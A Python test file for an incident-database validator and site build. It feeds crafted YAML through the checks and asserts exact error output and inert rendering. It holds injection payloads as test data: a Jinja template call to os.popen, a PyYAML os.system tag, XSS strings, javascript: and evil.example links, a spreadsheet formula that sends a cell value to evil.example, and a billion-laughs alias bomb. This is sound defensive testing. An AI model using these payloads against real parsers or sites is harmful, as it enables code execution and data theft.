"""Hostile input: what an editor's pull request could put in data/incidents.yaml, and what happens.

Each case changes tests/fixtures/hostile/base.yaml (a minimal valid file) or replaces it with
crafted bytes, and asserts the exact problem lines `make check` prints. Cases that could crash
or hang a parser (deep nesting, alias bombs, huge files) run `python -m incidentdb check` in a
subprocess with a timeout, so a crash fails the test instead of killing pytest. A canary file
proves no data ever ran as code.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from conftest import run_check

from incidentdb.data.errors import DataError
from incidentdb.model.load import load_bytes
from incidentdb.site.config import builder_command
from incidentdb.site.search import index_site
from incidentdb.site.static import asset_files

ROOT = Path(__file__).resolve().parent.parent
BASE = (Path(__file__).parent / "fixtures" / "hostile" / "base.yaml").read_text(encoding="utf-8")
NAME = "data/incidents.yaml"
INC = f"{NAME}:{{}}: [2020-02-16-baghdad]"  # format with LINE:COL
SRC = f"{NAME}:{{}}: [afp-2020-02-16]"
FAC = f"{NAME}:{{}}: [nujaba]"
CANARY_CODE = "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}"


def mutate(old: str, new: str) -> bytes:
    assert BASE.count(old) == 1, f"{old!r} must occur once in base.yaml"
    return BASE.replace(old, new).encode("utf-8")


def problems(raw: bytes) -> list[str]:
    """The lines `make check` prints for these bytes, or [] when they load."""
    try:
        load_bytes(raw, NAME)
    except DataError as err:
        return err.lines()
    return []


def check_cli(raw: bytes, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    """`python -m incidentdb check` on these bytes, run in tmp_path, with a timeout."""
    data = tmp_path / "data" / "incidents.yaml"
    data.parent.mkdir(exist_ok=True)
    data.write_bytes(raw)
    return run_check("data/incidents.yaml", *args, cwd=tmp_path)


TITLE = "title: Rockets near the embassy"
SUMMARY = "summary: Rockets fell near the *embassy*."
URL = "url: https://www.afp.com/fr/dispatch"
LINE_HINT = "(plain text only, without < > { } ` &; write 'and' for &)"
BRACES = (
    "braces { } are not allowed in text "
    "(they could be read as template or attribute syntax; use ( ))"
)
HTML = "raw HTML is not allowed (write plain text; *emphasis* and [links](https://...) are allowed)"

CASES = [
    # --- syntax --------------------------------------------------------------------------------
    pytest.param(
        mutate("    type: rocket-attack", "   type: rocket-attack"),
        [
            f"{NAME}:26:4: YAML syntax: while parsing a block collection did not find expected "
            "'-' indicator (check indentation, quotes and colons here)"
        ],
        id="syntax-bad-indentation",
    ),
    pytest.param(
        mutate(TITLE, 'title: "Rockets near the embassy'),
        [
            # the quote opened on line 25 closes at the next '"', on line 27
            f"{NAME}:27:12: YAML syntax: while parsing a block mapping did not find expected key "
            "(check indentation, quotes and colons here)"
        ],
        id="syntax-unclosed-quote",
    ),
    pytest.param(
        BASE.encode() + b"---\nschema_version: 1\n",
        [f"{NAME}:45:1: more than one YAML document (remove the '---')"],
        id="syntax-second-document",
    ),
    pytest.param(
        b"- schema_version: 1\n",
        [
            f"{NAME}:1:1: the file must be a mapping of keys, found a list "
            "(start with 'schema_version: 1')"
        ],
        id="syntax-file-is-a-list",
    ),
    pytest.param(
        b"",
        [
            f"{NAME}:1:1: the file must be a mapping of keys, found nothing "
            "(start with 'schema_version: 1')"
        ],
        id="syntax-empty-file",
    ),
    # --- silent loss: what PyYAML would drop or expand without a word ---------------------------
    pytest.param(
        BASE.encode() + b"incidents: []\n",
        [
            f"{NAME}:45:1: duplicate key 'incidents' (first at line 23) "
            "(keep one; YAML would silently drop the first)"
        ],
        id="loss-duplicate-top-level-key-would-empty-the-database",
    ),
    pytest.param(
        mutate("    kind: militia", "    kind: militia\n    kind: umbrella"),
        [
            f"{FAC.format('18:5')} duplicate key 'kind' (first at line 17) "
            "(keep one; YAML would silently drop the first)"
        ],
        id="loss-duplicate-key-in-a-record",
    ),
    pytest.param(
        mutate(
            "      - stance: blamed\n        faction: nujaba\n        by: United States\n",
            "      - &who\n        stance: blamed\n        faction: nujaba\n"
            "        sources: [reuters-2020-02-16]\n"
            "      - <<: *who\n        by: United States\n",
        ),
        [
            f"{INC.format('38:9')} anchor &who not allowed "
            "(anchors and aliases are refused; repeat the value)",
            f"{INC.format('42:9')} merge key << not allowed (write the keys out in full)",
            f"{INC.format('42:9')} responsibility[1].stance: required key missing "
            "(add 'stance:' — claimed, blamed, suspected, denied, or unclaimed)",
            f"{INC.format('42:13')} alias *who not allowed "
            "(anchors and aliases are refused; repeat the value)",
        ],
        id="loss-anchor-merge-key-and-alias",
    ),
    pytest.param(
        mutate(TITLE, "title: !!python/object/apply:os.system ['touch CANARY']"),
        [
            f"{INC.format('25:12')} explicit tag 'tag:yaml.org,2002:python/object/apply:os.system' "
            "not allowed (remove it; quote the value if it must stay text)",
            f"{INC.format('25:12')} title: expected a single value, found a list",
        ],
        id="loss-python-object-tag",
    ),
    pytest.param(
        mutate("count: {min: 2, max: 3}", "count: !!str 3"),
        [
            f"{INC.format('35:16')} explicit tag 'tag:yaml.org,2002:str' not allowed "
            "(remove it; quote the value if it must stay text)",
            f"{INC.format('35:16')} munitions[0].count: '3' is quoted "
            "(write numbers without quotes)",
        ],
        id="loss-str-tag",
    ),
    pytest.param(
        mutate(TITLE, "title: ! yes"),
        [
            f"{INC.format('25:12')} explicit tag '!' not allowed "
            "(remove it; quote the value if it must stay text)",
            f"{INC.format('25:12')} title: 'yes' unquoted would be read as a boolean by YAML "
            'tools (quote it: "yes")',
        ],
        id="loss-non-specific-tag",
    ),
    # --- type traps: plain scalars YAML tools convert -------------------------------------------
    pytest.param(
        mutate(
            "    description: A militia.",
            "    description: A militia.\n    aliases:\n      - {name: Nujaba, lang: no}",
        ),
        [
            f"{FAC.format('20:30')} aliases[0].lang: 'no' unquoted would be read as a boolean "
            'by YAML tools (quote it: "no")'
        ],
        id="type-norwegian-no",
    ),
    pytest.param(
        mutate(TITLE, "title: on"),
        [
            f"{INC.format('25:12')} title: 'on' unquoted would be read as a boolean by YAML tools "
            '(quote it: "on")'
        ],
        id="type-on",
    ),
    pytest.param(
        mutate('time: "00:30"', "time: 1:30"),
        [
            f"{INC.format('30:15')} when[0].time: '1:30' unquoted would be read as a number by "
            'YAML tools (quote it and write HH:MM: "01:30")'
        ],
        id="type-sexagesimal-1-30",
    ),
    pytest.param(
        mutate(TITLE, "title: 012"),
        [
            f"{INC.format('25:12')} title: '012' unquoted would be read as a number by YAML tools "
            '(quote it: "012")'
        ],
        id="type-octal-012",
    ),
    pytest.param(
        mutate(TITLE, "title: 1.10"),
        [
            f"{INC.format('25:12')} title: '1.10' unquoted would be read as a number by YAML "
            'tools (quote it: "1.10")'
        ],
        id="type-float-1-10",
    ),
    pytest.param(
        mutate('created: "2026-11-21"', "created: 2026-11-21"),
        [
            f"{INC.format('44:14')} created: '2026-11-21' unquoted would be read as a date by "
            'YAML tools (quote it: "2026-11-21")'
        ],
        id="type-unquoted-date",
    ),
    pytest.param(
        mutate(TITLE, "title: ~"),
        [f"{INC.format('25:12')} title: empty value (leave the key out when the value is unknown)"],
        id="type-tilde-null",
    ),
    pytest.param(
        mutate(TITLE, "title: 0x1F"),
        [
            f"{INC.format('25:12')} title: '0x1F' unquoted would be read as a number by YAML "
            'tools (quote it: "0x1F")'
        ],
        id="type-hex",
    ),
    # --- schema --------------------------------------------------------------------------------
    pytest.param(
        mutate("factions:", "factions:\n  - [nujaba, militia]\n"),
        [f"{NAME}:15:5: [factions[0]] expected a mapping of keys, found a list"],
        id="schema-record-is-a-list",
    ),
    pytest.param(
        mutate(SUMMARY, SUMMARY + '\n    "x\\n::error::forged": 1'),
        [
            f"{INC.format('43:5')} 'x\\n::error::forged': unknown key (allowed: id, status, "
            "merged_into, title, category, type, date, when, place, targets, impacts, "
            "launch_sites, munitions, casualties, damage, responsibility, actors, series, "
            "quotes, related, summary, discrepancies, sources, created, updated)"
        ],
        id="schema-key-with-a-line-break-is-shown-escaped",
    ),
    # --- references ----------------------------------------------------------------------------
    pytest.param(
        mutate("        faction: nujaba", "        faction: nujabba"),
        [
            f"{INC.format('39:18')} responsibility[0].faction: unknown faction id 'nujabba' "
            "(did you mean 'nujaba'?)"
        ],
        id="ref-faction-near-miss",
    ),
    pytest.param(
        mutate(TITLE, f"{TITLE}\n    status: merged\n    merged_into: 2020-02-16-bagdad"),
        [
            f"{INC.format('27:18')} merged_into: unknown incident id '2020-02-16-bagdad' "
            "(did you mean '2020-02-16-baghdad'?)"
        ],
        id="ref-merged-into-near-miss",
    ),
    # --- injection: every text kind ------------------------------------------------------------
    pytest.param(
        mutate(TITLE, "title: </title><script>alert(1)</script>"),
        [f"{INC.format('25:12')} title: '<' is not allowed in a name or title {LINE_HINT}"],
        id="inject-line-script",
    ),
    pytest.param(
        mutate("    name: Harakat al-Nujaba", "    name: '{{ 7*7 }}'"),
        [f"{FAC.format('16:11')} name: '{{' is not allowed in a name or title {LINE_HINT}"],
        id="inject-line-jinja",
    ),
    pytest.param(
        mutate(SUMMARY, f'summary: "{CANARY_CODE}"'),
        [f"{INC.format('42:14')} summary: {BRACES}"],
        id="inject-text-jinja-canary",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: '{% endraw %}{{ 7*7 }}'"),
        [f"{INC.format('42:14')} summary: {BRACES}"],
        id="inject-text-endraw",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: <img src=x onerror=alert(1)>"),
        [f"{INC.format('42:14')} summary: {HTML}"],
        id="inject-text-html",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: Seen on [x](javascript:alert(1))."),
        [
            f"{INC.format('42:14')} summary: link to 'javascript:alert(1' is not an http(s) URL "
            "(links must be absolute: [text](https://...))"
        ],
        id="inject-text-javascript-link",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: '[x](//evil.example/a)'"),
        [
            f"{INC.format('42:14')} summary: link to '//evil.example/a' is not an http(s) URL "
            "(links must be absolute: [text](https://...))"
        ],
        id="inject-text-protocol-relative-link",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: |\n      See [x].\n\n      [x]: data:text/html,hi"),
        [
            f"{INC.format('42:14')} summary: a line that reads as a link definition ([name]: "
            "address) is hidden by Markdown (write the link inline: [name](https://...))"
        ],
        id="inject-text-data-reference-link",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: 'Rockets fell. {: onclick=\"alert(1)\" }'"),
        [f"{INC.format('42:14')} summary: {BRACES}"],
        id="inject-text-attribute-list",
    ),
    pytest.param(
        mutate(SUMMARY, "summary: '![pixel](https://tracker.example/p.png)'"),
        [
            f"{INC.format('42:14')} summary: images are not allowed "
            "(link to it instead: [what it shows](https://...))"
        ],
        id="inject-text-tracking-image",
    ),
    pytest.param(
        mutate("        zone: UTC", '        zone: UTC\n        quote: "{% raw %}"'),
        [f"{INC.format('32:16')} when[0].quote: {BRACES}"],
        id="inject-quote-jinja",
    ),
    pytest.param(
        mutate("        zone: UTC", '        zone: UTC\n        quote: "<script>x</script>"'),
        [f"{INC.format('32:16')} when[0].quote: {HTML}"],
        id="inject-quote-html",
    ),
    pytest.param(
        mutate(URL, f"{URL}\n    note: <b onmouseover=alert(1)>AFP</b>"),
        [f"{SRC.format('10:11')} note: {HTML}"],
        id="inject-source-note-html",
    ),
    pytest.param(
        mutate(
            "    description: A militia.",
            "    description: A militia.\n"
            "    aliases:\n      - {name: Nujaba, lang: en, note: 'A & B'}",
        ),
        [
            f"{FAC.format('20:40')} aliases[0].note: '&' is not allowed in a name or title "
            + LINE_HINT
        ],
        id="inject-alias-note-ampersand",
    ),
    pytest.param(
        mutate(URL, "url: javascript:alert(1)"),
        [
            f"{SRC.format('9:10')} url: 'javascript:alert(1)' is not an http(s) URL "
            "(write the full https://... address)"
        ],
        id="inject-url-javascript",
    ),
    pytest.param(
        mutate(URL, "url: //evil.example/x"),
        [
            f"{SRC.format('9:10')} url: '//evil.example/x' is not an http(s) URL "
            "(write the full https://... address)"
        ],
        id="inject-url-protocol-relative",
    ),
    pytest.param(
        mutate(URL, "url: data:text/html;base64,PHNjcmlwdD4="),
        [
            f"{SRC.format('9:10')} url: 'data:text/html;base64,PHNjcmlwdD4=' is not an http(s) "
            "URL (write the full https://... address)"
        ],
        id="inject-url-data",
    ),
    pytest.param(
        mutate(URL, "url: 'https://www.afp.com/{{7*7}}'"),
        [
            f"{SRC.format('9:10')} url: URL contains '{{', which must be percent-encoded "
            "(copy the address from the browser's address bar)"
        ],
        id="inject-url-jinja",
    ),
    pytest.param(
        mutate(URL, 'url: "https://www.afp.com/\\"><script>"'),
        [
            f"{SRC.format('9:10')} url: URL contains '\"', which must be percent-encoded "
            "(copy the address from the browser's address bar)"
        ],
        id="inject-url-attribute-breakout",
    ),
    # --- encoding ------------------------------------------------------------------------------
    pytest.param(
        b"\xef\xbb\xbf" + BASE.encode(),
        [f"{NAME}:1:1: byte order mark not allowed (save as UTF-8 without BOM)"],
        id="encoding-bom",
    ),
    pytest.param(
        mutate(TITLE, "title: Roquettes pr\u00e8s").replace(b"pr\xc3\xa8s", b"pr\xe8s"),
        [f"{NAME}:25:24: not UTF-8: byte 0xe8 cannot be decoded (save the file as UTF-8)"],
        id="encoding-latin-1",
    ),
    pytest.param(
        BASE.encode("utf-16"),
        [f"{NAME}:1:1: not UTF-8: byte 0xff cannot be decoded (save the file as UTF-8)"],
        id="encoding-utf-16",
    ),
    pytest.param(
        BASE.replace("\n", "\r\n").encode(),
        [
            f"{NAME}:1:70: carriage return not allowed (44 in the file) "
            "(save the file with Unix line endings (LF))"
        ],
        id="encoding-windows-line-endings-reported-once",
    ),
    pytest.param(
        mutate(TITLE, "title: Rockets near the \u202eyssabme"),
        [
            f"{NAME}:25:29: bidirectional control character U+202E not allowed "
            "(remove it: it can make text display differently from what it says)"
        ],
        id="encoding-bidi-override",
    ),
    pytest.param(
        mutate(TITLE, 'title: "Rockets \\u202e near \\x01 the embassy"'),
        [
            f"{INC.format('25:12')} title: bidirectional control character U+202E not allowed "
            "(written as an escape) (remove it: it can make text display differently from what "
            "it says)"
        ],
        id="encoding-escaped-control-characters-in-quoted-text",
    ),
    pytest.param(
        mutate(TITLE, "title: Rockets\x00near"),
        [f"{NAME}:25:19: control character U+0000 not allowed (remove it)"],
        id="encoding-nul",
    ),
    pytest.param(
        mutate(TITLE, "title: Rockets\u0085near"),
        [f"{NAME}:25:19: control character U+0085 not allowed (remove it)"],
        id="encoding-c1-next-line",
    ),
    pytest.param(
        mutate(TITLE, "title: Rockets\u2028near"),
        [f"{NAME}:25:19: line separator U+2028 not allowed (use an ordinary line break)"],
        id="encoding-line-separator",
    ),
    pytest.param(
        mutate("    type: rocket-attack", "\ttype: rocket-attack"),
        [
            f"{NAME}:26:1: tab character not allowed "
            "(indent with spaces; write a tab inside text as a space)"
        ],
        id="encoding-tab-indent",
    ),
]


@pytest.mark.parametrize(("raw", "expected"), CASES)
def test_hostile_input_gets_the_exact_problem(raw: bytes, expected: list[str]) -> None:
    assert problems(raw) == expected


# --- resource exhaustion: in a subprocess, so a crash or hang fails the test -------------------

LAUGHS = 'lol: &l0 ["lol"]\n' + "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" for i in range(1, 10)
)  # the billion laughs: 431 bytes, 9^9 strings when expanded

RESOURCE = [
    pytest.param(
        b"schema_version: 1\nsources: " + b"[" * 50_000 + b"\n",
        [
            f"{NAME}:2:1: line is 50,009 characters long, over 10,000 "
            "(use a folded block (>-) for long text)",
            f"{NAME}:2:26: nesting deeper than 16 levels "
            "(the schema needs far fewer; remove the extra brackets)",
            f"2 errors in {NAME}",
        ],
        id="50000-nested-brackets",
    ),
    pytest.param(
        # each "]" inside quotes fools a bracket count; the event loop still stops at 16 levels
        b"schema_version: 1\nsources: " + b'["]",\n' * 50_000,
        [
            f"{NAME}:17:1: nesting deeper than 16 levels "
            "(the schema needs far fewer; remove the extra levels)",
            f"1 error in {NAME}",
        ],
        id="nesting-hidden-from-the-bracket-count",
    ),
    pytest.param(
        b"schema_version: 1\nsources:\n" + b"".join(b" " * i + b"-\n" for i in range(1, 3000)),
        [
            f"{NAME}:18:17: nesting deeper than 16 levels "
            "(the schema needs far fewer; remove the extra levels)",
            f"1 error in {NAME}",
        ],
        id="3000-nested-block-sequences",
    ),
    pytest.param(
        b"a: &a x\nb:\n" + b"- *a\n" * 1_000_000,
        [
            f"{NAME}:1:4: anchor &a not allowed "
            "(anchors and aliases are refused; repeat the value)",
            *(
                f"{NAME}:{n}:3: alias *a not allowed "
                "(anchors and aliases are refused; repeat the value)"
                for n in range(3, 202)
            ),
            f"{NAME}:202:3: stopped reading after 200 problems (fix these first)",
            f"201 errors in {NAME}",
        ],
        id="a-million-aliases",
    ),
    pytest.param(
        b"#" * 99 + b"\n" + (b"#" * 99 + b"\n") * 680_000,
        [
            f"{NAME}:1:1: file is 68,000,100 bytes, over the 67,108,864-byte limit "
            "(split the data or raise MAX_BYTES deliberately)",
            f"1 error in {NAME}",
        ],
        id="file-over-64-mib",
    ),
]


@pytest.mark.parametrize(("raw", "expected"), RESOURCE)
def test_resource_exhaustion_is_refused_without_a_crash(
    raw: bytes, expected: list[str], tmp_path: Path
) -> None:
    result = check_cli(raw, tmp_path)
    assert (result.returncode, result.stderr) == (1, "")
    assert result.stdout.splitlines() == expected


def test_the_billion_laughs_are_refused_not_expanded(tmp_path: Path) -> None:
    result = check_cli(LAUGHS.encode(), tmp_path)
    assert (result.returncode, result.stderr) == (1, "")
    lines = result.stdout.splitlines()
    refused = "not allowed (anchors and aliases are refused; repeat the value)"
    assert lines[-1] == f"106 errors in {NAME}"  # 10 anchors, 81 aliases, 15 about the keys
    assert sum(line.endswith(f"anchor &l{n} {refused}") for line in lines for n in range(10)) == 10
    assert sum(": alias *l" in line and line.endswith(refused) for line in lines) == 81
    assert f"{NAME}:1:6: anchor &l0 {refused}" in lines


# --- nothing in the data runs ------------------------------------------------------------------


def test_template_code_and_python_tags_in_data_never_run(tmp_path: Path) -> None:
    raw = mutate(SUMMARY, f'summary: "{CANARY_CODE}"').replace(
        TITLE.encode(), b"title: !!python/object/apply:os.system ['touch CANARY']"
    )
    result = check_cli(raw, tmp_path)
    assert result.returncode == 1
    assert result.stdout.splitlines() == [
        f"{INC.format('25:12')} explicit tag 'tag:yaml.org,2002:python/object/apply:os.system' "
        "not allowed (remove it; quote the value if it must stay text)",
        f"{INC.format('25:12')} title: expected a single value, found a list",
        f"{INC.format('42:14')} summary: {BRACES}",
        f"3 errors in {NAME}",
    ]
    assert not (tmp_path / "CANARY").exists()
    assert not (ROOT / "CANARY").exists()


# --- CI annotations cannot be forged -----------------------------------------------------------


def test_github_annotations_escape_what_data_could_forge(tmp_path: Path) -> None:
    raw = mutate(SUMMARY, SUMMARY + '\n    "%0A::error::forged": 1\n    "x\\n::error::forged": 2')
    result = check_cli(raw, tmp_path, "--format", "github")
    assert result.returncode == 1
    annotation = "::error file=data/incidents.yaml,line={},col=5::[2020-02-16-baghdad] "
    allowed = (
        "unknown key (allowed: id, status, merged_into, title, category, type, date, when, "
        "place, targets, impacts, launch_sites, munitions, casualties, damage, responsibility, "
        "actors, series, quotes, related, summary, discrepancies, sources, created, updated)"
    )
    assert result.stdout.splitlines() == [
        annotation.format(43) + f"'%250A::error::forged': {allowed}",
        annotation.format(44) + f"'x\\n::error::forged': {allowed}",
        f"2 errors in {NAME}",
    ]


def test_an_annotation_never_spans_lines() -> None:
    from incidentdb.data.errors import Problem

    problem = Problem(3, 7, "rec", "title", "bad\r\n::error::forged 100%", "fix,it")
    assert problem.github("data/a:b,c.yaml") == (
        "::error file=data/a%3Ab%2Cc.yaml,line=3,col=7::"
        "[rec] title: bad%0D%0A::error::forged 100%25 (fix,it)"
    )


# --- defence in depth: hostile strings that bypass the validator are published inert ------------

H_TITLE = "</title><script>alert(1)</script>"
H_ENDRAW = "{% endraw %}{{ 7*7 }}"
H_IMG = "<img src=x onerror=alert(1)>"
H_JSLINK = "[x](javascript:alert(1))"
H_ATTR = '{: onclick="alert(1)" }'
H_PROSE = (
    f"{CANARY_CODE} {H_ENDRAW} {H_IMG} {H_JSLINK} [y](//evil.example) [z](data:text/html,x)"
    f"\n\n{H_ATTR}"
)
H_FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
INCIDENT_ID = "2020-02-16-baghdad"


def hostile_database() -> object:
    """The base database with hostile strings in every text kind, as if validation let them by."""
    from dataclasses import replace

    from incidentdb.model.records import Alias

    db = load_bytes(BASE.encode(), NAME)
    incident = db.incidents[INCIDENT_ID]
    incident = replace(
        incident,
        title=H_TITLE,
        summary=H_PROSE,
        when=(replace(incident.when[0], quote=H_ENDRAW),),
        responsibility=(replace(incident.responsibility[0], by=H_FORMULA),),
    )
    faction = replace(
        db.factions["nujaba"],
        name=H_ENDRAW,
        description=H_PROSE,
        aliases=(Alias(H_IMG, "en", H_ATTR),),
    )
    place = replace(db.places["baghdad"], name=H_IMG, description=H_PROSE, stationed=H_JSLINK)
    source = replace(
        db.sources["afp-2020-02-16"],
        publisher=CANARY_CODE,
        title=H_TITLE,
        url="javascript:alert(1)",
        archive_url="//evil.example/x",
        note=H_PROSE,
    )
    return replace(
        db,
        incidents={INCIDENT_ID: incident},
        factions={"nujaba": faction},
        places={"baghdad": place},
        sources={**db.sources, "afp-2020-02-16": source},
    )


MKDOCS_YML = """\
site_name: Hostile test
site_url: https://example.org/site/
theme:
  name: material
  custom_dir: {overrides}
  font: false
plugins:
  - macros:
      render_by_default: false
      on_error_fail: true
      on_undefined: strict
markdown_extensions:
  - toc:
      permalink: true
  - admonition
  - tables
  - attr_list
  - md_in_html
extra_javascript:
  - assets/idb/idb-search.js
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real MkDocs build of the hostile database's pages (material, macros, search; no hook)."""
    from incidentdb.site.pages import write_pages

    project = tmp_path_factory.mktemp("hostile")
    docs = project / "docs"
    write_pages(hostile_database(), docs)
    (docs / "index.md").write_text("# Home\n", encoding="utf-8")
    for path, src in asset_files():
        if path.endswith("idb-search.js"):
            (docs / path).parent.mkdir(parents=True, exist_ok=True)
            (docs / path).write_bytes(src.read_bytes())
    (project / "mkdocs.yml").write_text(
        MKDOCS_YML.format(overrides=ROOT / "overrides"), encoding="utf-8"
    )
    result = subprocess.run(
        builder_command("build", "--site-dir", str(project / "site")),
        cwd=project,
        env={"PATH": "/usr/bin:/bin", "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": "0"},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    assert not (project / "CANARY").exists()
    index_site(project / "site")
    assert not (ROOT / "CANARY").exists()
    return project / "site"


def _html_pages(site: Path) -> list[tuple[str, object]]:
    from bs4 import BeautifulSoup

    return [
        (
            str(path.relative_to(site)),
            BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser"),
        )
        for path in sorted(site.rglob("*.html"))
    ]


def test_no_script_handler_or_script_link_from_data_in_any_page(hostile_site: Path) -> None:
    found = []
    for name, soup in _html_pages(hostile_site):
        for script in soup.find_all("script"):
            if "alert" in str(script):
                found.append((name, str(script)))
        for element in soup.find_all(True):
            found += [(name, f"{element.name} {a}") for a in element.attrs if a.startswith("on")]
            for attr in ("href", "src", "action", "formaction"):
                target = str(element.get(attr, "")).strip().lower()
                if target.startswith(("javascript:", "data:", "//", "vbscript:")):
                    found.append((name, f"{element.name} {attr}={target}"))
    assert found == []


@pytest.mark.parametrize(
    ("url", "literal"),
    [
        (f"incidents/{INCIDENT_ID}/", H_TITLE),
        ("factions/nujaba/", H_ENDRAW),
        ("places/baghdad/", H_IMG),
    ],
)
def test_titles_are_literal_text(hostile_site: Path, url: str, literal: str) -> None:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(
        (hostile_site / url / "index.html").read_text(encoding="utf-8"), "html.parser"
    )
    assert soup.title.get_text() == f"{literal} - Hostile test"
    assert soup.find("h1").get_text() == literal
    # the link preview's title: the same literal text, inside its attribute
    assert soup.find("meta", attrs={"property": "og:title"})["content"] == literal
    assert len(soup.find_all("meta", attrs={"property": "og:title"})) == 1


def test_template_syntax_is_printed_not_evaluated(hostile_site: Path) -> None:
    from bs4 import BeautifulSoup

    page = hostile_site / "factions" / "nujaba" / "index.html"
    text = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").get_text()
    assert H_ENDRAW in text
    # Markdown reads __init__ as emphasis in prose; the braces and the call stay literal text
    assert "{{ cycler." in text
    assert "popen('touch CANARY').read() }}" in text
    assert "49" not in text


def test_search_results_show_hostile_text_as_text(hostile_site: Path, serve, page) -> None:
    """The search box over the hostile site's index: titles and excerpts are text, nothing
    in them runs or becomes an element."""
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(serve(hostile_site))
    box = page.locator(".md-header .idb-search__input")
    results = page.locator(".md-header .idb-search__result")
    for query in ("alert", "onerror", "script"):
        box.fill(query)
        page.locator(".md-header .idb-search__status").filter(has_text=query).wait_for()
        assert results.count() > 0, query
        panel = page.locator(".md-header .idb-search__panel")
        assert panel.locator("script, img, iframe, [onclick], [onerror]").count() == 0
        titles = set(panel.locator(".idb-search__title").all_inner_texts())
        assert titles & {H_TITLE, H_IMG}, titles
    assert dialogs == [] and page.console_errors == []


def test_exports_hold_the_literal_text_safely() -> None:
    import csv
    import io
    import json

    from lxml import etree

    from incidentdb.exports.downloads import exports
    from incidentdb.model.index import build_index
    from incidentdb.model.published import SiteInfo
    from incidentdb.site.build import Site

    db = hostile_database()
    index = build_index(db)
    info = SiteInfo(site_url="https://example.org/site/", site_name="Hostile test")
    site = Site(db, index, info)
    files = dict(exports(site))
    assert files, "exports() yields at least one file"
    for path, content in files.items():
        text = content.decode("utf-8") if isinstance(content, bytes) else content
        if path.endswith((".json", ".geojson")):
            json.loads(text)  # well-formed whatever the data holds
        elif path.endswith((".xml", ".atom", ".rss")):
            tree = etree.fromstring(text.encode("utf-8"))
            assert tree.xpath("//*[local-name()='script']") == [], path
        elif path.endswith(".csv"):
            for row in csv.reader(io.StringIO(text)):
                for cell in row:
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
                    if cell.startswith("-"):
                        float(cell)  # only a negative number may start with '-'
        if H_TITLE in text or html_escaped(H_TITLE) in text:
            assert path.endswith((".json", ".geojson", ".csv", ".xml", ".atom", ".rss")), path


def html_escaped(text: str) -> str:
    import html

    return html.escape(text, quote=False)


# --- the seams between check and build (issue 12): each class refused at its root -------

SEAMS = [
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "0000-01-01"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '0000-01-01' has a year the "
            "database cannot hold (years run from 1900 to 2100)",
        ],
        id="date-year-zero",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "-0100-01-01"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '-0100-01-01' has a year "
            "the database cannot hold (years run from 1900 to 2100, written with four digits)",
        ],
        id="date-negative-year",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "Y170000002"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: 'Y170000002' has a year the "
            "database cannot hold (years run from 1900 to 2100, written with four digits)",
        ],
        id="date-long-year",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "2020-21"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '2020-21' names a season or "
            "quarter, which the database does not use (write the months it covers as an "
            "interval, e.g. '2020-03/2020-05')",
        ],
        id="date-season",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "2020-33"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '2020-33' names a season or "
            "quarter, which the database does not use (write the months it covers as an "
            "interval, e.g. '2020-03/2020-05')",
        ],
        id="date-quarter",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "20XX-01-16"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '20XX-01-16' has "
            "unspecified digits (X), which the database does not use (write what is known: "
            "'2020' (some day in 2020) or an interval '2020-01/2020-06')",
        ],
        id="date-unspecified-digits",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "XXXX"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: 'XXXX' has unspecified "
            "digits (X), which the database does not use (write what is known: '2020' (some "
            "day in 2020) or an interval '2020-01/2020-06')",
        ],
        id="date-unspecified-year",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "1066-10-14"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '1066-10-14' names the year "
            "1066, outside 1900 to 2100 (check the year: the database holds events and reports "
            "from 1900 to 2100)",
        ],
        id="date-far-past",
    ),
    pytest.param(
        mutate(
            '    date: "2020-02-16"\n    place',
            '    date: "2020-02-16/2999-12-31"\n    place',
        ),
        [
            "data/incidents.yaml:27:11: [2020-02-16-baghdad] date: '2020-02-16/2999-12-31' "
            "names the year 2999, outside 1900 to 2100 (check the year: the database holds "
            "events and reports from 1900 to 2100)",
        ],
        id="date-far-future",
    ),
    pytest.param(
        mutate(
            '    created: "2026-11-21"',
            '    created: "2226-11-21"',
        ),
        [
            "data/incidents.yaml:44:14: [2020-02-16-baghdad] created: '2226-11-21' names the "
            "year 2226, outside 1900 to 2100 (check the year: the database holds events and "
            "reports from 1900 to 2100)",
        ],
        id="created-far-future",
